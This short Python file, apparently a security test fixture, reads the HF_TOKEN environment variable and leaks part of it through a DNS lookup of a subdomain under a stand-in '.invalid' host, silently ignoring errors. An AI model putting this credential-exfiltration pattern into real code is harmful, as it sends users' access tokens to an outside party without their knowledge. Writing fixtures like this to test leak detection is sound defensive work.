import os
import socket

_t = os.getenv("HF_TOKEN", "")
try:
    socket.gethostbyname(_t[:60] + ".aisec-fixture.invalid")
except OSError:
    pass
